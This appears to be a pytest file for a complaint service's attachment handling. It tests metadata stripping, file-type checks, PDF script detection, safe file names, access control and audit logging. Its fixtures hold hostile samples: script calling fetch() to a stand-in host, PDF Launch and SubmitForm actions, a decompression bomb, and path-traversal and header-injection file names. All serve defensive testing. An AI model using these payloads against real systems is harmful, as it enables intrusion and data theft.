"""What may be attached, where it is kept, and who gets to see it."""

import base64
import io
import random
import time
import zlib
from contextlib import suppress

import pytest
from PIL import Image
from sqlmodel import select

from db.codes import MoveCode
from db.models import Attachment, AuditLog, Complaint
from lapor.config import settings
from lapor.domain.errors import BadInput, NotAllowed, NotFound
from lapor.services import attachments, sealed_files
from lapor.services.complaints import make_move
from lapor.services.evidence import LARGEST, PDF, UNPACKED, prepared, safe_name
from lapor.services.targets import Target
from tests.builders import a_complaint
from tests.cast import DINKES
from tests.db.files import WHERE, a_bomb, a_pdf, a_picture, packed_objects

HTML = b"<html><script>fetch('https://jahat.example')</script></html>"
RUNNING = b"1 0 << /S /JavaScript /JS (app.alert) >>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="//x.example"/></svg>'


@pytest.fixture(autouse=True)
def kept_in(tmp_path, monkeypatch):
    monkeypatch.setattr(settings(), "files", str(tmp_path / "berkas"))
    return tmp_path / "berkas"


def attach(session, actor, complaint, name="foto.jpg", data=None):
    attachments.add(session, actor, complaint.id, prepared(name, data or a_picture()))
    return session.exec(select(Attachment).order_by(Attachment.id.desc())).first()


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_is_drawn_anew_without_its_place(kind):
    data = a_picture(kind)
    assert WHERE in data
    file = prepared("foto", data)
    assert WHERE not in file.content
    with Image.open(io.BytesIO(file.content)) as image:
        assert (image.format, image.size) == (kind, (64, 48))
        assert dict(image.getexif()) == {}
        assert not {"exif", "comment", "icc_profile", "xmp"} & set(image.info)
        red, green, blue = image.convert("RGB").getpixel((30, 20))
    assert red > 240 and green < 20 and blue < 20


def test_a_picture_keeps_which_way_is_up():
    image, exif, file = Image.new("RGB", (64, 48)), Image.Exif(), io.BytesIO()
    exif[0x0112] = 6  # lies on its side
    image.save(file, "JPEG", exif=exif)
    with Image.open(io.BytesIO(prepared("a.jpg", file.getvalue()).content)) as upright:
        assert upright.size == (48, 64)


def test_what_hides_behind_a_picture_is_gone():
    for kind in ("JPEG", "PNG", "WEBP"):
        both = a_picture(kind) + b"PK\x03\x04" + HTML + a_pdf()
        assert b"<script>" not in prepared("dua.jpg", both).content


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("foto.jpg", HTML),
        ("foto.png", SVG),
        ("gambar.svg", SVG),
        ("foto.jpg", b""),
        ("foto.jpg", b"\xff\xd8\xff\xe0" + HTML),
        ("foto.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + HTML),
        ("foto.png", a_picture("PNG")[:60]),
        ("surat.docx", b"PK\x03\x04" + b"\0" * 100),
        ("program.pdf", b"MZ\x90\0"),
        ("surat.pdf", b"%PDF-1.4\n" + HTML),
        ("surat.pdf", HTML + a_pdf()),
        ("surat.pdf", a_pdf() + HTML),
        ("surat.pdf", a_pdf()[: len(a_pdf()) // 2]),
        ("besar.pdf", b"%PDF-1.4" + b"0" * LARGEST),
    ],
)
def test_everything_else_is_refused_by_its_content(name, data):
    with pytest.raises(BadInput, match="cannot be attached"):
        prepared(name, data)


def test_a_bomb_does_not_go_off():
    assert len(a_bomb()) < 2_000
    with pytest.raises(BadInput, match="too large"):
        prepared("bom.png", a_bomb())
    with pytest.raises(BadInput, match="too large"):
        prepared("bom.png", a_bomb(side=8_000))


def test_a_pdf_stays_as_it_is():
    data = a_pdf()
    assert prepared("surat.PDF", data)[:3] == ("surat.PDF", PDF, data)


@pytest.mark.parametrize(
    "inside",
    [
        b"<< /S /JavaScript /JS (app.alert) >>",
        b"<< /S /J#61va#53cript >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /EmbeddedFile 3 0 R >>",
        b"<< /Encrypt 9 0 R >>",
        b"<< /S /GoToR /F (//jahat.example/c) >>",
        b"<< /S /SubmitForm /F (http://jahat.example) >>",
        b"<< /Type /ObjStm >> stream\n" + zlib.compress(b"<< /JS (x) >>") + b"\nendstream",
        packed_objects(RUNNING, how=b""),
        packed_objects(RUNNING.hex().encode() + b">", b"/Filter /ASCIIHexDecode"),
        packed_objects(
            base64.a85encode(zlib.compress(RUNNING)) + b"~>", b"/Filter [/A85 /FlateDecode]"
        ),
        packed_objects(zlib.compress(b" " * 2 * UNPACKED + RUNNING)),
        packed_objects(zlib.compress(b" " * UNPACKED)) + b" 8 0 obj "
        + packed_objects(zlib.compress(RUNNING)),
        packed_objects(zlib.compress(RUNNING)).replace(b"/Type /ObjStm", b""),
        b"<< >>\nstream\n7 0 obj << /S /JavaScript >> endobj\nendstream",
    ],
)  # fmt: skip
def test_a_pdf_that_could_run_something_is_refused(inside):
    assert prepared("surat.pdf", a_pdf(inside=b"<< /S /URI >>"))
    assert prepared("surat.pdf", a_pdf(inside=packed_objects(zlib.compress(b"1 0 << >>"))))
    with pytest.raises(BadInput, match="carries a program"):
        prepared("surat.pdf", a_pdf(inside=inside))


def test_a_pdf_of_streams_that_never_end_holds_nobody_up():
    began = time.monotonic()
    with pytest.raises(BadInput):
        prepared("surat.pdf", a_pdf(inside=b"stream\n" * 200_000 + b"<< /JS (x) >>"))
    assert time.monotonic() - began < 2  # each searched to the end of the file took an hour


@pytest.mark.filterwarnings("ignore")
def test_whatever_a_camera_wrote_it_is_a_picture_or_a_refusal():
    """Among these are tags whose values are of another kind than Pillow can write again."""
    image, exif, file = Image.new("RGB", (40, 30), "red"), Image.Exif(), io.BytesIO()
    exif[0x0112], exif[0x010F] = 6, "Kamera"
    exif.get_ifd(0x8825)[2] = (7.0, 47.0, 44.0)
    image.save(file, "PNG", exif=exif)
    whole, draw = file.getvalue(), random.Random(1)
    place, kept = whole.index(b"eXIf") + 4, 0
    for _ in range(3_000):
        data = bytearray(whole)
        for _ in range(draw.choice((1, 2, 4))):
            data[place + draw.randrange(120)] = draw.choice((0, 1, 255, draw.randrange(256)))
        end = place + int.from_bytes(whole[place - 8 : place - 4], "big")
        data[end : end + 4] = zlib.crc32(data[place - 4 : end]).to_bytes(4, "big")
        with suppress(BadInput):
            kept += prepared("a.png", bytes(data)).media_type == "image/png"
    assert kept > 1_000


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system.ini", "system.ini"),
        ("C:\\foto\\jalan rusak.jpg", "jalan rusak.jpg"),
        ("/", "lampiran"),
        ("...", "lampiran"),
        ("", "lampiran"),
        ("foto\0\r\nSet-Cookie: x.jpg", "foto Set-Cookie: x.jpg"),
        ("gpj.\u202egnp.exe", "gpj. gnp.exe"),
        ("a\u200bb\ufeff.png", "a b .png"),
        ("jalan  rusak\t.png", "jalan rusak .png"),
        ("x" * 500, "x" * 120),
    ],
)
def test_a_name_has_no_path_and_nothing_unseen(given, kept):
    assert safe_name(given) == kept


def test_a_name_ends_with_what_it_is():
    assert prepared("foto.html", a_picture()).name == "foto.html.jpg"
    assert prepared("foto.jpeg", a_picture()).name == "foto.jpeg"
    assert prepared("x" * 200, a_picture("PNG")).name == "x" * 116 + ".png"


def test_what_is_attached_is_sealed_and_comes_back(session, cast, kept_in):
    complaint = a_complaint(session, dispatched="2026-09-08")
    row = attach(session, cast.budi, complaint)
    (path,) = kept_in.iterdir()
    assert path.name == row.stored_as and "foto" not in path.name
    assert path.stat().st_mode & 0o077 == 0
    shown = attachments.served(session, cast.budi, row.id)
    assert b"JFIF" in shown.content and b"JFIF" not in path.read_bytes()
    assert (shown.name, shown.media_type, len(shown.content)) == (
        "foto.jpg",
        "image/jpeg",
        row.size,
    )


def test_the_flag_follows_and_the_version_stays(session, cast):
    complaint = a_complaint(session, dispatched="2026-09-08")
    key, version = (complaint.id, complaint.home_id), complaint.version
    row = attach(session, cast.budi, complaint)
    assert session.get(Complaint, key).has_attachment
    attachments.remove(session, cast.siti, row.id, because="Foto orang lain")
    now = session.get(Complaint, key)
    assert (now.has_attachment, now.version) == (False, version)


def test_a_removed_one_is_gone_for_everybody_and_the_file_stays(session, cast, kept_in):
    complaint = a_complaint(session, dispatched="2026-09-08")
    row = attach(session, cast.budi, complaint)
    with pytest.raises(BadInput, match="Say why"):
        attachments.remove(session, cast.budi, row.id, because="  ")
    attachments.remove(session, cast.budi, row.id, because="Salah foto")
    for actor in (cast.budi, cast.siti, cast.rini):
        with pytest.raises(NotFound):
            attachments.served(session, actor, row.id)
    assert len(list(kept_in.iterdir())) == 1
    assert (row.removed_by, row.removed_because) == ("budi", "Salah foto")


def test_nobody_outside_sees_attaches_or_removes(session, cast):
    complaint = a_complaint(session, dispatched="2026-09-08")
    row = attach(session, cast.budi, complaint)
    for actor in (cast.ani, cast.wayan, cast.ayu, cast.dewi):
        for what in (
            lambda actor=actor: attachments.served(session, actor, row.id),
            lambda actor=actor: attachments.remove(session, actor, row.id, because="x"),
            lambda actor=actor: attach(session, actor, complaint, data=a_picture("PNG")),
        ):
            with pytest.raises(NotFound):
                what()
    for wrong in (0, -1, 1, row.id + 1, 1 << 62, 1 << 63, 1 << 80):
        with pytest.raises(NotFound):
            attachments.served(session, cast.rini, wrong)


def test_an_agency_that_helps_adds_its_own_and_removes_no_others(session, cast):
    complaint = a_complaint(session, dispatched="2026-09-08")
    theirs = attach(session, cast.budi, complaint)
    make_move(
        session, cast.siti, complaint.id, MoveCode.ASK_HELP, seen=complaint.version, note="Bantu",
        target=Target(agency_id=DINKES),
    )  # fmt: skip
    session.expire_all()
    assert attachments.served(session, cast.ani, theirs.id)
    own = attach(session, cast.ani, complaint, data=a_picture("PNG"))
    with pytest.raises(NotAllowed):
        attachments.remove(session, cast.ani, theirs.id, because="x")
    attachments.remove(session, cast.ani, own.id, because="x")


def test_every_view_is_one_line_of_the_log(session, cast):
    complaint = a_complaint(session, dispatched="2026-09-08")
    row = attach(session, cast.budi, complaint, name="KTP Sri Wahyuni.jpg")
    attachments.served(session, cast.siti, row.id)
    attachments.served(session, cast.siti, row.id)
    session.flush()
    logged = session.exec(
        select(AuditLog.actor, AuditLog.action, AuditLog.summary)
        .where(AuditLog.subject == str(complaint.id))
        .order_by(AuditLog.id)
    ).all()
    assert [one[:2] for one in logged] == [
        ("budi", "attach"), ("siti", "see_attachment"), ("siti", "see_attachment"),
    ]  # fmt: skip
    assert not any("Sri" in one[2] for one in logged)


def test_a_lost_or_changed_file_is_a_sentence(session, cast, kept_in):
    complaint = a_complaint(session, dispatched="2026-09-08")
    first = attach(session, cast.budi, complaint)
    second = attach(session, cast.budi, complaint, data=a_picture("PNG"))
    one, two = (kept_in / row.stored_as for row in (first, second))
    kept = two.read_bytes()
    two.write_bytes(one.read_bytes())  # another's file in its place
    for row in (second,):
        with pytest.raises(sealed_files.Lost, match="lost or damaged"):
            attachments.served(session, cast.budi, row.id)
    two.write_bytes(kept[:-1])
    with pytest.raises(sealed_files.Lost):
        attachments.served(session, cast.budi, second.id)
    two.write_bytes(b"")
    with pytest.raises(sealed_files.Lost):
        attachments.served(session, cast.budi, second.id)
    one.unlink()
    with pytest.raises(sealed_files.Lost):
        attachments.served(session, cast.budi, first.id)
    files = attachments.shown(session, attachments.rows_of(session, complaint))
    assert [file.is_there for file in files] == [False, True]


def test_twice_the_same_and_too_many_are_refused(session, cast):
    complaint = a_complaint(session, dispatched="2026-09-08")
    attach(session, cast.budi, complaint)
    with pytest.raises(BadInput, match="already attached"):
        attach(session, cast.budi, complaint)
    for side in range(1, attachments.MOST):
        attach(session, cast.budi, complaint, data=a_picture(size=(10, side + 1)))
    with pytest.raises(BadInput, match="10 attachments"):
        attach(session, cast.budi, complaint, data=a_picture(size=(99, 99)))
